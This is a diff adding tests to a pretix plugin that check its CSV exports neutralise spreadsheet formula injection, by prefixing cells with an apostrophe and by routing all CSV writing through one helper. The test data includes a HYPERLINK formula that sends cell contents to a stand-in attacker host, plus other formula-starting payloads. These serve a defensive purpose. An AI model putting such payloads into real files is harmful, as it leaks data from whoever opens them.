@@ -220,3 +220,57 @@ def test_queries_per_page_do_not_grow_with_events_or_shreds(admin, organizer, us
             shred_through_control_panel(ev, user, ["attendee_info"])
     large = (page_queries(admin, PAGE), page_queries(admin, CSV))
     assert small == large, (small, large)
+
+
+# -- CSV injection (finding 19.6): every cell a spreadsheet would run as a formula gets a leading ' (OWASP) -----------
+
+FORMULAS = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"x")', "+1", "-1", "@x", "\tx", "\rx"]
+
+
+def test_csv_neutralises_formulas_in_event_names_and_shredded_by(admin, organizer, user):
+    for i, payload in enumerate(FORMULAS):
+        event = make_event(organizer, slug=f"evil{i}", name=payload, date_from=now() - timedelta(days=20 + i))
+        shredded_by = User.objects.create(email=payload)  # pretix stores e-mail addresses lower-cased
+        event.log_action(
+            "pretix.event.shredder.completed", user=shredded_by, data={"indexdata": {"shredders": ["order_emails"]}}
+        )
+    table = list(csv.reader(io.StringIO(admin.get(CSV).content.decode(), newline="")))
+    rows = {r[0]: r for r in table[1:]}
+    for i, payload in enumerate(FORMULAS):
+        name, shredded_by = rows[f"evil{i}"][1], rows[f"evil{i}"][7]
+        assert (name, shredded_by) == ("'" + payload, "'" + payload.lower())
+    # harmless cells are left alone (dates start with a digit, words with a letter)
+    assert rows["evil0"][2][0].isdigit() and rows["evil0"][5] == "Over, shredded only partly"
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        *[(payload, "'" + payload) for payload in FORMULAS],
+        ("Sample Conference", "Sample Conference"),
+        ("2026-12-03T06:39:12+00:00", "2026-12-03T06:39:12+00:00"),
+        (" =1", " =1"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_neutralise(value, cell):
+    from pretix_shredder_api.csvcells import neutralise
+
+    assert neutralise(value) == cell
+
+
+def test_every_csv_of_the_plugin_is_written_through_csvcells():
+    """One helper, used everywhere: no module but ``csvcells`` writes CSV itself."""
+    from pathlib import Path
+
+    import pretix_shredder_api
+
+    root = Path(pretix_shredder_api.__file__).parent
+    writers = sorted(
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
+    )
+    assert writers == ["csvcells.py"]
